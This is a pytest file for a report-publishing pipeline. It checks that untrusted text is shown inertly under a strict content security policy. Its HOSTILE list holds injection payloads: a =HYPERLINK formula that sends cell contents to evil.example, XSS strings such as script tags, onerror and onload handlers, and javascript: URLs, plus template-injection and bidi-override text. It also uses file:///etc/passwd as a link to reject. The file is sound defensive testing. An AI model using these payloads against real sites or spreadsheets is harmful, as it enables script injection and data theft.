"""Whatever a list or a claim brings is shown as text and does nothing."""

import re
from datetime import date

import pytest

from pipelines.report.element import Link
from pipelines.report.page import HOME, policy
from tests.pipelines.pages import parsed, publication, text, written

HOSTILE = [
    '=HYPERLINK("https://evil.example/?q="&A1,"ver")',
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=2",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</style><style>*{display:none}",
    "<!-- no end",
    "{{ 7 * 7 }}{% raw %}",
    "javascript:alert(1)",
    'https://evil.example/" onmouseover="alert(1)',
    "\u202eodarebil\u202c",
    "Ana\u200bMaría\u2060",
    "👩🏽‍⚖️ José",
    "uno\ndos\r\ntres",
    "nulo\x00y\x1bescape",
    "$\\frac{1}$ ^_{",
    "a" * 10_000,
    "nota larga " * 900,
]
EXECUTABLE = (
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "form",
    "img",
    "audio",
    "video",
    "link",
)
DAY = date(2026, 1, 20)


def claim(number, said):
    return {
        "claim_id": f"A{number}", "reading": "stated", "organisation": said, "side": "ngo", "claimed_by": said,
        "said_on": DAY, "as_of": DAY, "value": 40 + number, "qualifier": "exact", "value_low": 40, "unit": "person",
        "stock_or_flow": "flow", "basis": "gross", "window_text": said, "excludes": [], "evidence": [said],
        "parts": [], "source_url": said, "notes": said,
    }  # fmt: skip


def row(number, said):
    record = f"r{number}"
    return {
        "marts.discrepancy": {
            "comparison_id": "c0", "record_id": record, "side": "from", "release_id": f"e{number}",
            "person_id": f"p{number}", "counted": True, "in_both": False, "primary_reason": "NOT_ON_LIST",
            "all_reasons": ["NOT_ON_LIST"], "probability": 0.5, "explanation_es": said, "explanation_en": said,
        },
        "marts.appearance": {
            "record_id": record, "source_id": said[:80], "source_kind": "release_list", "document_sha256": "0" * 64,
            "locator": said[:80], "list_order": number, "published_on": DAY, "row_id": said, "full_name": said,
            "national_id": said, "person_id": f"p{number}", "release_id": f"e{number}", "facility": said,
            "state": said, "note": said, "url": said, "offence_excluded": False, "flags": [],
        },
        "marts.release": {
            "release_id": f"e{number}", "person_id": f"p{number}", "occurred_from": DAY, "occurred_to": DAY,
            "measure": ["reporting"], "facility": said, "state": said, "flags": [],
            "evidence_class": "single_source", "independent_sources": 1, "records": 1,
        },
        "meta.document": {
            "sha256": f"{number:064x}", "source_id": said[:80], "path": said, "bytes": 1, "rows": 1, "rejected": 0,
            "url": said,
        },
        "meta.rejected": {
            "source_id": said[:80], "document_sha256": "0" * 64, "locator": str(number), "heading": said,
            "reason_text": said, "remedy": said, "stops": False,
        },
    }  # fmt: skip


@pytest.fixture(scope="module", params=["restricted", "public"])
def page(request, tmp_path_factory):
    """A page of a publication with hostile texts wherever a list, a claim or a case may bring one."""
    tables = {
        "meta.run": [
            {
                "run_id": "0f0f", "case_es": HOSTILE[5], "case_en": HOSTILE[6], "started_at": "2026-03-01 12:30:00",
                "version": "0.1.0", "config_sha256": "0" * 64, "models_sha256": "0" * 64, "input_rows": 3,
            }
        ],
        "marts.claim": [claim(number, said) for number, said in enumerate(HOSTILE)],
        "marts.comparison": [
            {
                "comparison_id": f"c{number}", "position": number, "comparison_es": said, "comparison_en": said,
                "from_claim_id": f"A{number}", "to_claim_id": f"A{number}", "bridged_by": "rows",
            }
            for number, said in enumerate(HOSTILE[5:9])
        ],
        "marts.bridge": [
            {
                "comparison_id": f"c{number}", "from_reading": "stated", "to_reading": "stated", "line_no": place,
                "side": "from", "reason": reason, "label_es": said, "label_en": said, "amount": 40,
                "amount_median": 40, "running_total": 40 * place, "named": 3, "claim_ids": [said[:80]],
            }
            for number in range(4)
            for place, (reason, said) in enumerate(
                zip(("FROM", "DUPLICATE", "UNITEMISED", "TO"), HOSTILE[5 + number : 9 + number], strict=True), 1
            )
        ],
    }  # fmt: skip
    for number, said in enumerate(HOSTILE):
        for name, made in row(number, said).items():
            tables.setdefault(name, []).append(made)
    folder = tmp_path_factory.mktemp("hostile")
    return parsed(written(publication(folder, tables), folder, "es", request.param))


def test_nothing_runs_but_the_ledgers_own_script(page):
    scripts = list(page.iter("script"))
    rows = page.xpath("//*[@data-ledger]")
    own = (HOME / "ledger.js").read_text(encoding="utf-8")
    assert [script.text for script in scripts] == [own for _ in rows]
    tags = {it.tag for it in page.iter() if isinstance(it.tag, str)}
    assert not tags & (set(EXECUTABLE) - {"script"})
    assert sum(it.tag == "style" for it in page.iter()) == 1
    for element in page.iter():
        assert not [name for name in element.attrib if name.lower().startswith("on")]


def test_nothing_comes_from_elsewhere(page):
    for element in page.iter():
        for name, value in element.attrib.items():
            if name in ("src", "srcset", "data", "poster", "action", "formaction", "background"):
                pytest.fail(f"{element.tag} {name}={value}")
            if name == "href" and not value.startswith("#"):
                assert element.tag == "a" and re.match(r"https?://", value), value
                assert element.get("rel") == "noopener noreferrer"
            if name == "style":
                assert "url(" not in value or re.search(r"url\(#", value)
    [style] = page.iter("style")
    assert "url(" not in style.text and "@import" not in style.text


def test_every_text_is_shown_as_it_was_given(page):
    told = page.text_content()
    shown = re.sub(r"\s+", " ", told)
    for said in HOSTILE:
        kept = re.sub("[\x00\x1b]", "\ufffd", said)
        assert re.sub(r"\s+", " ", kept).strip() in shown, said[:60]
    assert "\x00" not in told and "\x1b" not in told


def test_only_web_addresses_are_followed():
    safe = {
        it: Link("x", it).is_safe for it in (*HOSTILE, "https://a.example/b", "http://a.example")
    }
    assert [it for it, is_safe in safe.items() if is_safe] == [
        'https://evil.example/" onmouseover="alert(1)',
        "https://a.example/b",
        "http://a.example",
    ]
    for odd in (
        "data:text/html,x",
        "file:///etc/passwd",
        "//a.example",
        "https:",
        "http://[",
        "ftp://a.example",
    ):
        assert not Link("x", odd).is_safe


def test_the_page_forbids_itself_everything_else(page):
    [rule] = page.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert rule == policy((HOME / "ledger.js").read_text(encoding="utf-8"))
    assert "default-src 'none'" in rule
    assert "unsafe-inline" not in rule.split("script-src")[1].split(";")[0]


def test_nobody_reverses_the_text_of_another(page):
    [style] = page.iter("style")
    isolated = re.findall(r"([^{}]+)\{[^{}]*unicode-bidi: isolate", style.text)
    assert {"th, td", "dd"} <= {it.strip() for it in isolated}
    assert text(page)
